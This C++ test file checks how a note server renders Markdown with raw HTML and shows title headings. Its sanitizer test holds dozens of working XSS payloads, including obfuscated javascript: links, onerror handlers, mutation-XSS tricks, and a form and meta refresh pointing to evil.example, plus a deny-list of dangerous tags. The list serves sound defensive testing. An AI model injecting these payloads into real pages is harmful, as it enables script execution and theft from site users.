// A note as HTML: what of raw HTML is passed on, and the heading that is the title.
#include "cli/serve/rendered_note.h"

#include <string>

#include "cli/serve/raw_html.h"
#include "cli/serve/web_address.h"
#include "indexer/note/note.h"
#include "tests/support/catch.h"

namespace assay::test {
namespace {

/// Links lead to the web, or to the note of their name. Pictures are those in img/.
cli::NoteLinks links() {
    return {[](schema::LinkKind, std::string_view target) -> cli::ShownLink {
                if (cli::is_web_address(target)) return {std::string(target), "outside", {}, true};
                if (target.find(':') != target.npos) return {{}, "unresolved", {}, false};
                if (target == "nothing") return {{}, "wanted", "not written yet", false};
                return {cli::escaped_path("/note/" + std::string(target)), {}, {}, false};
            },
            [](schema::LinkKind, std::string_view target) {
                return target.starts_with("img/") ? "/picture/" + std::string(target)
                                                  : std::string();
            }};
}

std::string shown(std::string_view markdown, bool raw_html) {
    cli::NoteMarkdown note;
    note.body = markdown;
    note.raw_html = raw_html;
    std::string html = cli::render_note(note, links()).html;
    while (html.ends_with('\n')) html.pop_back();
    return html;
}

/// The tag at byte `at`, without the values of attributes that are only text.
std::string tag_at(const std::string& html, std::size_t at) {
    std::string tag;
    bool in_value = false, is_text = false;
    for (; at < html.size() && (in_value || html[at] != '>'); ++at) {
        if (html[at] == '"') {
            in_value = !in_value;
            is_text = in_value && (tag.ends_with(" title=") || tag.ends_with(" alt="));
        }
        if (!is_text || !in_value) tag.push_back(html[at]);
    }
    return tag;
}

/// True if no tag of `html` has anything that runs, loads from elsewhere, or acts as the page.
bool is_harmless(const std::string& html) {
    for (std::size_t at = html.find('<'); at != html.npos; at = html.find('<', at + 1)) {
        const std::string tag = tag_at(html, at);
        for (const char* harmful :
             {"<script",     "<style",    "<iframe",   "<object",   "<embed",      "<form",
              "<input",      "<svg",      "<math",     "<link",     "<meta",       "<base",
              "<template",   "<textarea", "<title",    "<noscript", "<video",      "<audio",
              "<dialog",     "<select",   " on",       " style=",   " id=",        " class=\"hits",
              "javascript:", "data:",     "vbscript:", " srcset",   " formaction", " background",
              " action",     "src=\"//",  "src=\"http"})
            if (tag.find(harmful) != tag.npos) return false;
    }
    return true;
}

}  // namespace

TEST_CASE("raw HTML is text", "[serve][html]") {
    CHECK(shown("a <b>bold</b> b", false) ==
          "<p dir=\"auto\">a <code class=\"html\">&lt;b&gt;</code>bold<code "
          "class=\"html\">&lt;/b&gt;</code> b</p>");
    CHECK(shown("<div>x</div>", false) ==
          "<pre class=\"html\" tabindex=\"0\">&lt;div&gt;x&lt;/div&gt;\n</pre>");
    CHECK(shown("a <!-- hidden --> b", false) == "<p dir=\"auto\">a  b</p>");
}

TEST_CASE("with html: true, elements of a list are passed on", "[serve][html]") {
    struct Row {
        const char* markdown;
        const char* html;
    };
    const Row rows[] = {
        {"a <b>bold</b> b", "<p dir=\"auto\">a <b>bold</b> b</p>"},
        {"H<sub>2</sub>O and <KBD>x</KBD>", "<p dir=\"auto\">H<sub>2</sub>O and <kbd>x</kbd></p>"},
        {"a<br>b<br/>c", "<p dir=\"auto\">a<br>b<br>c</p>"},
        {"<details open><summary>More &amp; more</summary>\n\nin *it*\n\n</details>",
         "<details open=\"\"><summary>More &amp; more</summary>\n\n<p dir=\"auto\">in "
         "<em>it</em></p>\n</details>"},
        {"<table><tr><td colspan=2>x</td></tr></table>",
         "<table><tr><td colspan=\"2\">x</td></tr></table>"},
        {"x <a href=\"https://example.org/\" title='a \"b\"'>y</a>",
         "<p dir=\"auto\">x <a class=\"outside\" href=\"https://example.org/\" rel=\"noopener "
         "noreferrer nofollow\">y</a></p>"},
        {"x <a href=rain.md>y</a>", "<p dir=\"auto\">x <a href=\"/note/rain.md\">y</a></p>"},
        {"x <a href=nothing>y</a>",
         "<p dir=\"auto\">x <span class=\"wanted\" title=\"not written yet\">y<span "
         "class=\"hidden\"> (not written yet)</span></span></p>"},
        {"x <img src=img/a.png alt='A' width=20>",
         "<p dir=\"auto\">x <img src=\"/picture/img/a.png\" alt=\"A\" "
         "width=\"20\"></p>"},
        {"x <!-- hidden --> y", "<p dir=\"auto\">x  y</p>"},
        {"<div>a <!-- hidden --> b</div>", "<div>a  b</div>"},
        // What is open at the end of a part of the note is closed there.
        {"a <b>b\n\nc", "<p dir=\"auto\">a <b>b</b></p>\n<p dir=\"auto\">c</p>"},
        {"> <div>a\n\nb", "<blockquote><div>a\n\n</div></blockquote>\n<p dir=\"auto\">b</p>"},
        {"a <i><b>b</i> c", "<p dir=\"auto\">a <i><b>b</b></i> c</p>"},
        {"<ul><li>a", "<ul><li>a\n\n</li></ul>"},
        {"> [!tip] <s>a\n> b",
         "<blockquote class=\"callout callout-tip\"><p class=\"callout-title\"> <s>a</s></p>\n"
         "<p dir=\"auto\">b</p>\n</blockquote>"},
        {"a\n\n<div>![[note]]",
         "<p dir=\"auto\">a</p>\n<div><a href=\"/note/note\">note</a>\n\n</div>"},
        {"a <b>b ![[note]] c", "<p dir=\"auto\">a <b>b </b> c</p>"},
        // An end without a beginning, or of another part, ends nothing.
        {"a</b> b", "<p dir=\"auto\">a<code class=\"html\">&lt;/b&gt;</code> b</p>"},
        {"</div></article>x", "&lt;/div&gt;&lt;/article&gt;x"},
        {"<div>\n\n- a </div>\n\n</div>",
         "<div>\n\n<ul><li dir=\"auto\">a <code class=\"html\">&lt;/div&gt;</code>\n</li>\n"
         "</ul>\n</div>"},
        // Within a line there are no blocks.
        {"a <div>b</div>",
         "<p dir=\"auto\">a <code class=\"html\">&lt;div&gt;</code>b<code "
         "class=\"html\">&lt;/div&gt;</code></p>"},
    };
    for (const Row& row : rows) {
        INFO(row.markdown);
        CHECK(shown(row.markdown, true) == row.html);
    }
}

TEST_CASE("with html: true, nothing of a note runs, loads, asks for input or escapes its place",
          "[serve][html]") {
    const char* const rows[] = {
        "<script>alert(1)</script>",
        "a <script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script\n>alert(1)</script\n>",
        "<div><script>alert(1)</script></div>",
        "<<script>script>alert(1)</script>",
        "<div <script>alert(1)</script>>",
        "<b onclick=alert(1)>x</b>",
        "x <b ONCLICK=alert(1)>x</b>",
        "x <b/onclick=alert(1)>x</b>",
        "x <b\nonmouseover\n=\n'alert(1)'>x</b>",
        "x <img src=img/a.png onerror=alert(1)>",
        "x <img src=x onerror=alert(1)>",
        "x <img src=\"javascript:alert(1)\">",
        "x <img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "x <img src=//evil.example/x.png>",
        "x <img src=https://evil.example/x.png>",
        "x <img srcset=\"https://evil.example/x.png 1x\" src=img/a.png>",
        "x <a href=\"javascript:alert(1)\">x</a>",
        "x <a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "x <a href=\" javascript:alert(1)\">x</a>",
        "x <a href=\"java\tscript:alert(1)\">x</a>",
        "x <a href=\"java&#115;cript:alert(1)\">x</a>",
        "x <a "
        "href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "x <a href=\"javascript&colon;alert(1)\">x</a>",
        "x <a href=\"java&Tab;script:alert(1)\">x</a>",
        "x <a href=\"java&NewLine;script:alert(1)\">x</a>",
        "x <a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "x <a href=\"vbscript:x\">x</a>",
        "x <a href=img/a.png href=javascript:alert(1)>x</a>",
        "x <a title=\"&quot; onclick=&quot;alert(1)\">x</a>",
        "x <a title='\" onclick=\"alert(1)'>x</a>",
        "x <abbr title=\"x\n\n\" onclick=alert(1)>x</abbr>",
        "<style>body { display: none }</style>",
        "<div style=\"position: fixed; inset: 0\">x</div>",
        "<div class=hits id=main>x</div>",
        "<iframe src=/></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example/><input name=q><button>x</button></form>",
        "<div><form action=/open method=post><input name=note></form></div>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<body background=x onload=alert(1)>",
        "<div><!--><img src=x onerror=alert(1)>--></div>",
        "<div><!-- --!><img src=x onerror=alert(1)> --></div>",
        "<div><![CDATA[<img src=x onerror=alert(1)>]]></div>",
        "<div><?php <img src=x onerror=alert(1)> ?></div>",
        "<details ontoggle=alert(1) open>x</details>",
        "<p title=\"&lt;script&gt;\">&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>",
        "<div title=\"\uFDD2"
        "0\uFDD3\">[[x]] \uFDD2"
        "0\uFDD3 &#xFDD2;0&#xFDD3;</div>",
        "x <b title=[[a\"onclick=alert(1)]]>x</b>",
        "<video src=x onerror=alert(1)></video><audio src=x></audio>",
        "<xmp><script>alert(1)</script></xmp><plaintext>",
        "<a:script xmlns:a=http://www.w3.org/1999/xhtml>alert(1)</a:script>",
        "<div\0onclick=alert(1)>x</div>",
        "<dialog open>x</dialog><select><option>x</select>",
    };
    for (const char* row : rows) {
        INFO(row);
        for (const bool raw : {true, false}) CHECK(is_harmless(shown(row, raw)));
        // Also in a list, a quote, a table and a heading.
        const std::string text(row);
        if (text.find('\n') == text.npos)
            for (const std::string& around :
                 {"- " + text, "> " + text, "| a |\n|---|\n| " + text + " |", "# " + text,
                  "*" + text + "*", "[" + text + "](rain.md)"})
                CHECK(is_harmless(shown(around, true)));
    }
    CHECK_FALSE(is_harmless("<p><b onclick=\"x\">"));
    CHECK_FALSE(is_harmless("<b title=\"x\" onclick=\"x\">"));
    CHECK(is_harmless("<b title=\" onclick=x\">"));
    CHECK_FALSE(is_harmless("<script>"));
}

TEST_CASE("deep and long raw HTML takes no longer than other text", "[serve][html]") {
    std::string opened, closed;
    for (int i = 0; i < 50'000; ++i) {
        opened += "<b><i>";
        closed += "</u>";
    }
    CHECK(shown("x " + opened + closed, true).size() > opened.size());
    CHECK(shown("<div>" + opened + closed, true).size() > opened.size());
    CHECK_FALSE(shown(std::string(200'000, '<'), true).empty());
    CHECK_FALSE(shown("<div>" + std::string(200'000, '<'), true).empty());
}

TEST_CASE("a heading that is the title of the note is shown once", "[serve]") {
    struct Row {
        const char* body;
        const char* title;
        const char* heading;  // empty = it is in the text
    };
    const Row rows[] = {
        {"# Rain\n\nfalls", "Rain", "Rain"},
        {"# Rain *falls*\n\nhere", "Rain falls", "Rain <em>falls</em>"},
        {"Rain\n====\n\nfalls", "Rain", "Rain"},
        {"## Rain\n\nfalls", "Rain", "Rain"},
        {"# RAIN\n\nfalls", "Rain", "RAIN"},
        {"# Rain\n\nfalls", "Snow", ""},
        {"It\n\n# Rain", "Rain", ""},
        {"> # Rain", "Rain", ""},
        {"# Rain\n\nfalls", "", ""},
    };
    for (const Row& row : rows) {
        INFO(row.body << " / " << row.title);
        cli::NoteMarkdown note;
        note.body = row.body;
        note.title = row.title;
        note.headings = indexer::read_note("a.md", row.body, 0).record.headings;
        const cli::RenderedNote shown = cli::render_note(note, links());
        CHECK(shown.heading == row.heading);
        CHECK((shown.html.find("<h") == shown.html.npos) == !shown.heading.empty());
        CHECK(shown.heading_id.empty() == shown.heading.empty());
    }
    // The other headings are below the title of the page.
    for (const auto& [body, level] :
         {std::pair("# Rain\n\n## Snow", "<h2"), std::pair("# Rain\n\n# Snow", "<h2"),
          std::pair("## Rain\n\n## Snow", "<h3"), std::pair("## Snow", "<h3")}) {
        INFO(body);
        cli::NoteMarkdown note;
        note.body = body;
        note.title = "Rain";
        note.headings = indexer::read_note("a.md", body, 0).record.headings;
        CHECK(cli::render_note(note, links()).html.starts_with(level));
    }
}

}  // namespace assay::test
